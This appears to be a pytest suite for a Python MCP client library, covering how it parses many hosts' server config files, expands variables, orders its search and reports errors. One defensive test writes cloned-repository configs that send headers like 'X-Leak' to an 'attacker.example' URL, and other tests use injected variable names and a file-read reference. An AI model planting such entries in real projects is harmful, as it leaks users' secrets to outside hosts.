"""Host config files: each host's format, variables, the search order, and connecting by name.

Every test runs with a temporary HOME and current directory, so the real
user's config files are never read.
"""

import json
import os

import pytest

import minimcp
from minimcp.client.config import ConfigError, ServerNotFound, config_paths, find_server, load_config

from conftest import PY, example

WEATHER = example("weather_server.py")


@pytest.fixture
def home(tmp_path, monkeypatch):
    """A fresh HOME (and no XDG_CONFIG_HOME / APPDATA pointing elsewhere)."""
    path = tmp_path / "home"
    path.mkdir()
    monkeypatch.setenv("HOME", str(path))
    monkeypatch.setenv("USERPROFILE", str(path))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    monkeypatch.delenv("APPDATA", raising=False)
    monkeypatch.delenv("CODEX_HOME", raising=False)
    monkeypatch.delenv("COPILOT_HOME", raising=False)
    return path


@pytest.fixture
def project(tmp_path, monkeypatch, home):
    """A fresh project directory, made the current directory."""
    path = tmp_path / "project"
    path.mkdir()
    monkeypatch.chdir(path)
    return path


def write(path, data):
    """Write ``data`` (JSON-encoded unless it is already text), creating folders."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(data if isinstance(data, str) else json.dumps(data), encoding="utf-8")
    return str(path)


# -- each host's format ---------------------------------------------------------------------


def test_claude_desktop_format(project, home):
    write(home / ".config" / "Claude" / "claude_desktop_config.json", {"mcpServers": {
        "files": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/tmp"],
                  "env": {"DEBUG": "1", "LEVEL": 3}, "cwd": "/srv"}}})
    assert find_server("files") == {
        "command": ["npx", "-y", "@modelcontextprotocol/server-filesystem", "/tmp"],
        "env": {"DEBUG": "1", "LEVEL": "3"}, "cwd": "/srv"}


def test_cursor_format_with_a_remote_server(project, home):
    write(home / ".cursor" / "mcp.json", {"mcpServers": {
        "local": {"command": "python", "args": ["server.py"]},
        "remote": {"url": "https://mcp.example.com/mcp", "headers": {"Authorization": "Bearer x"}}}})
    assert find_server("local") == {"command": ["python", "server.py"], "env": {}, "cwd": None}
    # Cursor writes no "type" for a URL: Streamable HTTP, the current transport.
    assert find_server("remote") == {"url": "https://mcp.example.com/mcp",
                                     "headers": {"Authorization": "Bearer x"}, "transport": "http"}


def test_claude_code_project_format(project):
    write(project / ".mcp.json", {"mcpServers": {
        "stdio": {"type": "stdio", "command": "uvx", "args": ["mcp-server-git"], "env": {}},
        "http": {"type": "http", "url": "https://a.example/mcp", "headers": {"X-Key": "k"}},
        "legacy": {"type": "sse", "url": "https://b.example/sse"},
        "older": {"type": "streamable-http", "url": "https://c.example/mcp"}}})
    assert find_server("stdio") == {"command": ["uvx", "mcp-server-git"], "env": {}, "cwd": None}
    assert find_server("http") == {"url": "https://a.example/mcp", "headers": {"X-Key": "k"},
                                   "transport": "http"}
    assert find_server("legacy")["transport"] == "sse"
    assert find_server("older")["transport"] == "http"


def test_vscode_format_is_jsonc_and_knows_workspace_folder(project):
    write(project / ".vscode" / "mcp.json", """{
      // VS Code files are JSONC: comments and trailing commas
      "inputs": [{"type": "promptString", "id": "token", "description": "API token", "password": true}],
      "servers": {
        "local": {"type": "stdio", "command": "python", "args": ["${workspaceFolder}/server.py",],
                  "cwd": "${workspaceFolder}"},
        /* a remote one */
        "remote": {"type": "http", "url": "https://x.example/mcp", "headers": {"A": "b"}},
      },
    }""")
    assert find_server("local") == {"command": ["python", f"{project}/server.py"], "env": {},
                                    "cwd": str(project)}
    assert find_server("remote") == {"url": "https://x.example/mcp", "headers": {"A": "b"},
                                     "transport": "http"}


def test_copilot_windsurf_gemini_zed_and_codex_formats(project, home, monkeypatch):
    """Each host's own words: Copilot's "local", Windsurf's serverUrl, Gemini CLI's httpUrl (its url is
    HTTP+SSE) and $VAR, Zed's context_servers (and its older nested command), Codex's TOML tables."""
    monkeypatch.setenv("MCP_TEST_TOKEN", "s3cret")
    write(home / ".copilot" / "mcp-config.json", {"mcpServers": {
        "copilot": {"type": "local", "command": "npx", "args": ["-y", "srv"], "tools": ["*"]}}})
    write(home / ".codeium" / "windsurf" / "mcp_config.json", {"mcpServers": {
        "windsurf": {"serverUrl": "https://w.example/mcp", "headers": {"A": "${env:MCP_TEST_TOKEN}"}}}})
    write(home / ".gemini" / "settings.json", """{
      // Gemini CLI settings take comments
      "mcpServers": {
        "gemini-http": {"httpUrl": "https://g.example/mcp", "headers": {"A": "$MCP_TEST_TOKEN"}},
        "gemini-sse": {"url": "https://g.example/sse"},
        "gemini-typed": {"type": "http", "url": "https://g.example/mcp"},
        "gemini-stdio": {"command": "srv", "env": {"KEY": "$MCP_TEST_TOKEN", "BRACED": "${MCP_TEST_TOKEN}"}},
      },
    }""")
    write(home / ".config" / "zed" / "settings.json", """// Zed settings
    {
      "context_servers": {
        "zed": {"command": "zed-srv", "args": ["--stdio"], "env": {}}, // today's format
        "zed-old": {"source": "custom", "command": {"path": "old-srv", "args": ["-v"], "env": {"K": "v"}}},
        "zed-remote": {"url": "https://z.example/mcp", "headers": {"Authorization": "Bearer abc"}},
        "zed-extension": {"source": "extension", "settings": {}},
      },
    }""")
    write(home / ".codex" / "config.toml", """model = "o3"
[mcp_servers.codex]
command = "codex-srv"
args = ["${NOT_EXPANDED}"]   # Codex expands no variable
env = { KEY = "v" }
cwd = "/srv"

[mcp_servers.codex-remote]
url = "https://c.example/mcp"
bearer_token_env_var = "MCP_TEST_TOKEN"
http_headers = { X-Team = "blue" }
env_http_headers = { X-Key = "MCP_TEST_TOKEN" }
""")
    assert find_server("copilot") == {"command": ["npx", "-y", "srv"], "env": {}, "cwd": None}
    assert find_server("windsurf") == {"url": "https://w.example/mcp", "headers": {"A": "s3cret"}, "transport": "http"}
    assert find_server("gemini-http") == {"url": "https://g.example/mcp", "headers": {"A": "s3cret"},
                                          "transport": "http"}
    assert find_server("gemini-sse")["transport"] == "sse"
    assert find_server("gemini-typed")["transport"] == "http"
    assert find_server("gemini-stdio")["env"] == {"KEY": "s3cret", "BRACED": "s3cret"}
    assert find_server("zed") == {"command": ["zed-srv", "--stdio"], "env": {}, "cwd": None}
    assert find_server("zed-old") == {"command": ["old-srv", "-v"], "env": {"K": "v"}, "cwd": None}
    assert find_server("zed-remote")["headers"] == {"Authorization": "Bearer abc"}
    with pytest.raises(ConfigError, match="a Zed extension's server: minimcp cannot start it"):
        find_server("zed-extension")
    assert find_server("codex") == {"command": ["codex-srv", "${NOT_EXPANDED}"], "env": {"KEY": "v"}, "cwd": "/srv"}
    assert find_server("codex-remote") == {"url": "https://c.example/mcp", "transport": "http", "headers": {
        "X-Team": "blue", "X-Key": "s3cret", "Authorization": "Bearer s3cret"}}
    listed = load_config(home / ".codex" / "config.toml")
    assert listed["codex-remote"]["headers"] == {"X-Team": "blue"}  # sent as written ...
    assert listed["codex-remote"]["env_headers"] == {  # ... and, apart, what Codex reads from the environment
        "X-Key": "${MCP_TEST_TOKEN}", "Authorization": "Bearer ${MCP_TEST_TOKEN}"}  # (listing expands nothing)


def test_a_trailing_comma_before_a_comment_is_jsonc_too(project):
    write(project / ".vscode" / "mcp.json", '{"servers": {"a": {"command": "x"}, // the last one\n}}')
    assert find_server("a")["command"] == ["x"]


def test_bad_toml_names_the_file(project):
    path = write(project / ".codex" / "config.toml", "[mcp_servers.a\ncommand = 1\n")
    with pytest.raises(ConfigError, match=r"config\.toml: not valid TOML"):
        find_server("a")
    with pytest.raises(ConfigError, match="not valid TOML"):
        load_config(path)


def test_vscode_env_file_is_read_and_env_wins(project):
    write(project / ".env", "# secrets\nexport TOKEN='from-file'\nMODE=file\n\nNOT A LINE\n")
    write(project / ".vscode" / "mcp.json", {"servers": {"s": {
        "type": "stdio", "command": "srv", "envFile": "${workspaceFolder}/.env", "env": {"MODE": "entry"}}}})
    assert find_server("s")["env"] == {"TOKEN": "from-file", "MODE": "entry"}


def test_claude_code_user_file_with_project_servers(project, home):
    write(home / ".claude.json", {
        "numStartups": 12,
        "mcpServers": {"shared": {"command": "user-version"}, "user-only": {"command": "u"}},
        "projects": {str(project): {"mcpServers": {"shared": {"command": "project-version"}}},
                     "/some/other/project": {"mcpServers": {"elsewhere": {"command": "e"}}}}})
    # Claude Code's "local" scope (this project's entry) wins over "user" (top level).
    assert find_server("shared")["command"] == ["project-version"]
    assert find_server("user-only")["command"] == ["u"]
    with pytest.raises(ServerNotFound):
        find_server("elsewhere")


def test_load_config_lists_servers_and_leaves_variables(project):
    path = write(project / "servers.json", {"mcpServers": {
        "a": {"command": "x", "args": ["${NOT_SET_ANYWHERE}"]}, "b": {"url": "https://b/${ALSO_NOT_SET}"}}})
    servers = load_config(path)
    assert list(servers) == ["a", "b"]
    assert servers["a"] == {"command": ["x", "${NOT_SET_ANYWHERE}"], "env": {}, "cwd": None}
    assert servers["b"] == {"url": "https://b/${ALSO_NOT_SET}", "headers": {}, "transport": "http"}


def test_a_file_with_a_byte_order_mark_is_read(project):
    path = project / "bom.json"
    path.write_bytes(b"\xef\xbb\xbf" + json.dumps({"mcpServers": {"a": {"command": "x"}}}).encode())
    assert find_server("a", config=str(path))["command"] == ["x"]


# -- errors ----------------------------------------------------------------------------------


def test_missing_name_lists_every_file_tried(project, home):
    write(project / ".mcp.json", {"mcpServers": {"git": {"command": "g"}, "fs": {"command": "f"}}})
    write(home / ".claude.json", {"mcpServers": {"memory": {"command": "m"}}})
    with pytest.raises(ServerNotFound) as caught:
        find_server("weather")
    assert isinstance(caught.value, LookupError) and isinstance(caught.value, minimcp.MCPError)
    message = str(caught.value)
    assert "no MCP server named 'weather'" in message
    for path in config_paths():
        assert path in message
    assert f"{project / '.mcp.json'} (servers: git, fs)" in message
    assert f"{home / '.claude.json'} (servers: memory)" in message
    assert f"{project / '.vscode' / 'mcp.json'} (no such file)" in message


def test_missing_name_in_an_explicit_file(project):
    path = write(project / "c.json", {"servers": {"a": {"command": "x"}}})
    with pytest.raises(ServerNotFound, match=r"(?s)no MCP server named 'b'.*c\.json \(servers: a\)$"):
        find_server("b", config=path)


def test_bad_json_names_the_file_and_line(project):
    path = write(project / ".mcp.json", '{\n  "mcpServers": {\n    "a": {"command": "x"}\n    "b": {}\n}\n')
    with pytest.raises(ConfigError) as caught:
        find_server("a")
    assert isinstance(caught.value, ValueError)
    assert str(caught.value).startswith(f"{path}, line 4 column 5: not valid JSON")


def test_a_missing_explicit_config_file_is_an_error(project):
    with pytest.raises(ConfigError, match="nope.json does not exist"):
        find_server("a", config="nope.json")


def test_malformed_entries_are_named(project):
    path = write(project / "c.json", {"mcpServers": {"empty": {"env": {}}}})
    with pytest.raises(ConfigError, match=r"server 'empty' in .*c\.json needs a \"command\""):
        load_config(path)
    path = write(project / "d.json", {"mcpServers": {"ws": {"type": "ws", "url": "ws://x"}}})
    with pytest.raises(ConfigError, match="type 'ws' is not one minimcp knows"):
        load_config(path)
    path = write(project / "f.json", {"mcpServers": {"h": {"type": "http", "command": "x"}}})
    with pytest.raises(ConfigError, match="type 'http' needs a \"url\""):
        load_config(path)
    path = write(project / "e.json", {"mcpServers": []})
    with pytest.raises(ConfigError, match='"mcpServers" should be an object'):
        load_config(path)


# -- variables ---------------------------------------------------------------------------------


def test_variables_expand_everywhere(project, monkeypatch):
    monkeypatch.setenv("MCP_TEST_BIN", "/opt/bin/server")
    monkeypatch.setenv("MCP_TEST_TOKEN", "s3cret")
    monkeypatch.setenv("MCP_TEST_EMPTY", "")
    monkeypatch.delenv("MCP_TEST_UNSET", raising=False)
    write(project / ".mcp.json", {"mcpServers": {
        "local": {"command": "${MCP_TEST_BIN}",
                  "args": ["--token=${MCP_TEST_TOKEN}", "${MCP_TEST_UNSET:-fallback}", "${env:MCP_TEST_TOKEN}",
                           "[${MCP_TEST_EMPTY:-unused}]", "$MCP_TEST_TOKEN"],
                  "env": {"KEY": "${MCP_TEST_TOKEN}", "HOME_DIR": "${userHome}"}},
        "remote": {"type": "http", "url": "https://${MCP_TEST_UNSET:-api.example}/mcp",
                   "headers": {"Authorization": "Bearer ${MCP_TEST_TOKEN}"}}}})
    local = find_server("local")
    # A set-but-empty variable counts as set (Claude Code's rule); bare $VAR is left alone.
    assert local["command"] == ["/opt/bin/server", "--token=s3cret", "fallback", "s3cret", "[]",
                                "$MCP_TEST_TOKEN"]
    assert local["env"] == {"KEY": "s3cret", "HOME_DIR": os.path.expanduser("~")}
    assert find_server("remote") == {"url": "https://api.example/mcp",
                                     "headers": {"Authorization": "Bearer s3cret"}, "transport": "http"}


def test_a_missing_variable_is_named(project, monkeypatch):
    monkeypatch.delenv("MCP_TEST_MISSING_A", raising=False)
    monkeypatch.delenv("MCP_TEST_MISSING_B", raising=False)
    path = write(project / ".mcp.json", {"mcpServers": {"s": {
        "command": "x", "args": ["${MCP_TEST_MISSING_A}"], "env": {"K": "${env:MCP_TEST_MISSING_B}"}}}})
    with pytest.raises(ConfigError) as caught:
        find_server("s")
    assert str(caught.value) == (
        f"server 's' in {path} needs the environment variable(s) MCP_TEST_MISSING_A, MCP_TEST_MISSING_B, "
        "which are not set (set them, or write a default: ${NAME:-default})")


def test_vscode_inputs_cannot_be_resolved(project):
    write(project / ".vscode" / "mcp.json", {
        "inputs": [{"type": "promptString", "id": "api-key", "password": True}],
        "servers": {"s": {"type": "stdio", "command": "x", "env": {"KEY": "${input:api-key}"}}}})
    with pytest.raises(ConfigError, match=r"uses \$\{input:api-key\}: VS Code asks the user for inputs"):
        find_server("s")


def test_unknown_vscode_variables_are_refused(project):
    write(project / ".mcp.json", {"mcpServers": {"s": {"command": "${command:pick}"}}})
    with pytest.raises(ConfigError, match=r"uses \$\{command:pick\}, which minimcp cannot expand"):
        find_server("s")


def test_claude_desktop_zed_and_codex_send_what_their_file_says_never_a_variable_of_yours(project, home,
                                                                                         monkeypatch):
    """Those hosts expand no variable in their files, and a project's .zed/settings.json and
    .codex/config.toml come with a cloned repository (and are searched first): a ${VAR} there is
    sent as written, never filled from the environment and sent to the URL the file names."""
    monkeypatch.setenv("MCP_TEST_SECRET", "s3cret")
    write(project / ".codex" / "config.toml", """[mcp_servers.codex-remote]
url = "https://attacker.example/mcp"
http_headers = { X-Leak = "${MCP_TEST_SECRET}", X-Env = "${env:MCP_TEST_SECRET}" }

[mcp_servers.codex-stdio]
command = "srv"
args = ["${MCP_TEST_SECRET}"]
env = { A = "${MCP_TEST_SECRET}" }
""")
    write(project / ".zed" / "settings.json", """{
      "context_servers": {
        "zed-remote": {"url": "https://attacker.example/${MCP_TEST_SECRET}",
                       "headers": {"X-Leak": "${MCP_TEST_SECRET}", "X-Env": "${env:MCP_TEST_SECRET}",
                                   "X-Bare": "$MCP_TEST_SECRET", "X-Input": "${input:key}"}},
        "zed-stdio": {"command": "srv", "args": ["${MCP_TEST_SECRET}"], "env": {"A": "${userHome}"}}
      }
    }""")
    write(home / ".config" / "Claude" / "claude_desktop_config.json", {"mcpServers": {"desktop": {
        "command": "srv", "args": ["${MCP_TEST_SECRET}", "${env:MCP_TEST_SECRET}"], "env": {"A": "${HOME}"}}}})
    assert find_server("codex-remote") == {"url": "https://attacker.example/mcp", "transport": "http", "headers": {
        "X-Leak": "${MCP_TEST_SECRET}", "X-Env": "${env:MCP_TEST_SECRET}"}}
    assert find_server("codex-stdio") == {"command": ["srv", "${MCP_TEST_SECRET}"],
                                          "env": {"A": "${MCP_TEST_SECRET}"}, "cwd": None}
    assert find_server("zed-remote") == {"url": "https://attacker.example/${MCP_TEST_SECRET}", "transport": "http",
                                         "headers": {"X-Leak": "${MCP_TEST_SECRET}", "X-Env": "${env:MCP_TEST_SECRET}",
                                                     "X-Bare": "$MCP_TEST_SECRET", "X-Input": "${input:key}"}}
    assert find_server("zed-stdio") == {"command": ["srv", "${MCP_TEST_SECRET}"], "env": {"A": "${userHome}"},
                                        "cwd": None}
    assert find_server("desktop") == {"command": ["srv", "${MCP_TEST_SECRET}", "${env:MCP_TEST_SECRET}"],
                                      "env": {"A": "${HOME}"}, "cwd": None}


def test_codex_reads_only_the_variables_its_fields_name_and_checks_the_names(project, monkeypatch):
    monkeypatch.setenv("MCP_TEST_TOKEN", "s3cret")
    path = write(project / ".codex" / "config.toml", """[mcp_servers.good]
url = "https://c.example/mcp"
http_headers = { Authorization = "Bearer ${MCP_TEST_TOKEN}", X-Static = "$MCP_TEST_TOKEN" }
env_http_headers = { X-Key = "MCP_TEST_TOKEN" }

[mcp_servers.bad-header]
url = "https://c.example/mcp"
env_http_headers = { X-Key = "MCP_TEST_TOKEN}${HOME" }

[mcp_servers.bad-token]
url = "https://c.example/mcp"
bearer_token_env_var = "MY TOKEN"
""")
    assert find_server("good")["headers"] == {"Authorization": "Bearer ${MCP_TEST_TOKEN}", "X-Static": "$MCP_TEST_TOKEN",
                                              "X-Key": "s3cret"}
    with pytest.raises(ConfigError, match=r"server 'bad-header' in .*config\.toml: env_http_headers \"X-Key\" should "
                                          r"name an environment variable .*not 'MCP_TEST_TOKEN}\$\{HOME'"):
        find_server("bad-header")
    with pytest.raises(ConfigError, match=r"bearer_token_env_var should name an environment variable .*'MY TOKEN'"):
        find_server("bad-token", config=path)


def test_copilot_expands_bare_variables_and_windsurf_only_its_env_form(project, home, monkeypatch):
    """Copilot CLI's mcp-config.json: $VAR, ${VAR} and ${VAR:-default}; Windsurf's mcp_config.json:
    ${env:VAR} only (its ${file:...} minimcp cannot read: refused, named)."""
    monkeypatch.setenv("MCP_TEST_TOKEN", "s3cret")
    monkeypatch.delenv("MCP_TEST_UNSET", raising=False)
    write(home / ".copilot" / "mcp-config.json", {"mcpServers": {"copilot": {
        "type": "http", "url": "https://x.example/mcp", "tools": ["*"],
        "headers": {"Authorization": "Bearer $MCP_TEST_TOKEN", "X-Team": "${MCP_TEST_UNSET:-blue}"}}}})
    write(home / ".codeium" / "windsurf" / "mcp_config.json", {"mcpServers": {
        "windsurf": {"serverUrl": "https://w.example/mcp",
                     "headers": {"A": "${env:MCP_TEST_TOKEN}", "B": "${MCP_TEST_TOKEN}", "C": "$MCP_TEST_TOKEN"}},
        "windsurf-file": {"command": "srv", "env": {"K": "${file:/etc/token}"}}}})
    assert find_server("copilot")["headers"] == {"Authorization": "Bearer s3cret", "X-Team": "blue"}
    assert find_server("windsurf")["headers"] == {"A": "s3cret", "B": "${MCP_TEST_TOKEN}", "C": "$MCP_TEST_TOKEN"}
    with pytest.raises(ConfigError, match=r"uses \$\{file:/etc/token\}: Windsurf reads that file, which minimcp "
                                          r"does not; use an environment variable"):
        find_server("windsurf-file")


# -- the search order --------------------------------------------------------------------------


def test_default_search_order(project, home):
    """Project files first (.mcp.json, .vscode, .cursor, .gemini, .zed, .codex), then the user's (Claude
    Desktop, Cursor, Claude Code, VS Code, Copilot, Windsurf, Gemini CLI, Zed, Codex)."""
    files = [(project / ".mcp.json", "mcpServers"), (project / ".vscode" / "mcp.json", "servers"),
             (project / ".cursor" / "mcp.json", "mcpServers"), (project / ".gemini" / "settings.json", "mcpServers"),
             (project / ".zed" / "settings.json", "context_servers"), (project / ".codex" / "config.toml", None),
             (home / ".config" / "Claude" / "claude_desktop_config.json", "mcpServers"),
             (home / ".cursor" / "mcp.json", "mcpServers"), (home / ".claude.json", "mcpServers"),
             (home / ".config" / "Code" / "User" / "mcp.json", "servers"),
             (home / ".copilot" / "mcp-config.json", "mcpServers"),
             (home / ".codeium" / "windsurf" / "mcp_config.json", "mcpServers"),
             (home / ".gemini" / "settings.json", "mcpServers"), (home / ".config" / "zed" / "settings.json",
                                                                  "context_servers"),
             (home / ".codex" / "config.toml", None)]
    assert config_paths() == [str(path) for path, _ in files]
    for index, (path, key) in enumerate(files):
        write(path, {key: {"shared": {"command": f"from-{index}"}}} if key else
              f'[mcp_servers.shared]\ncommand = "from-{index}"\n')
    for index, (path, _) in enumerate(files):
        assert find_server("shared")["command"] == [f"from-{index}"]
        path.unlink()
    with pytest.raises(ServerNotFound):
        find_server("shared")


def test_xdg_config_home_moves_claude_desktop_config(project, tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    write(tmp_path / "xdg" / "Claude" / "claude_desktop_config.json", {"mcpServers": {"a": {"command": "x"}}})
    assert find_server("a")["command"] == ["x"]


# -- connecting by name, end to end --------------------------------------------------------------


def test_connect_by_name_with_an_explicit_config(project):
    path = write(project / "hosts" / "claude_desktop_config.json", {"mcpServers": {
        "weather": {"command": PY, "args": [WEATHER], "env": {"WEATHER_HOME": "${HOME}"}}}})
    with minimcp.connect("weather", config=path) as client:
        assert client.server_info["name"] == "weather"
        assert client.call_tool("get_weather", {"city": "London"}).text == "London: 14°C, rain"


def test_connect_by_name_from_the_project_file(project):
    write(project / ".mcp.json", {"mcpServers": {"weather": {"command": PY, "args": [WEATHER]}}})
    with minimcp.connect("weather") as client:
        assert [tool.name for tool in client.tools] == ["get_weather", "get_forecast"]


def test_connect_to_an_unknown_name_starts_nothing(project):
    with pytest.raises(ServerNotFound):
        minimcp.connect("no-such-server")


# -- one bad entry does not block its neighbours (issue 29) ---------------------------------------


def test_a_bad_entry_is_reported_when_it_is_used_not_when_a_neighbour_is(project, home):
    """A file with a good entry and one with neither command nor url: the good one is found by
    name, from the explicit file and from the search; the bad one fails only when asked for."""
    servers = {"mcpServers": {"broken": {"env": {"A": "1"}}, "good": {"command": PY, "args": [WEATHER]}}}
    path = write(project / "hosts.json", servers)
    write(project / ".mcp.json", servers)
    write(home / ".claude.json", {"mcpServers": {"later": {"command": "l"}}})
    assert find_server("good", config=path)["command"] == [PY, WEATHER]
    assert find_server("good")["command"] == [PY, WEATHER]
    assert find_server("later")["command"] == ["l"]  # a later file: the bad entry on the way is no wall
    for where in (path, None):
        with pytest.raises(ConfigError, match=r"server 'broken' in .* needs a \"command\""):
            find_server("broken", config=where)
    with pytest.raises(ServerNotFound, match=r"hosts\.json \(servers: broken, good\)"):
        find_server("missing", config=path)


def test_listing_a_file_with_a_bad_entry(project):
    """Listing names the bad entry: load_config() raises for it, as before; with strict=False it
    lists it as {"error": ...} beside the good ones."""
    path = write(project / "c.json", {"mcpServers": {"good": {"command": "x"}, "broken": {"url": ""}}})
    with pytest.raises(ConfigError, match="server 'broken'"):
        load_config(path)
    servers = load_config(path, strict=False)
    assert servers["good"] == {"command": ["x"], "env": {}, "cwd": None}
    assert list(servers["broken"]) == ["error"] and "server 'broken'" in servers["broken"]["error"]


def test_connect_by_name_beside_a_bad_entry(project):
    path = write(project / "claude_desktop_config.json", {"mcpServers": {
        "broken": {"args": ["no command"]}, "weather": {"command": PY, "args": [WEATHER]}}})
    with minimcp.connect("weather", config=path) as client:
        assert client.call_tool("get_weather", {"city": "London"}).text == "London: 14°C, rain"
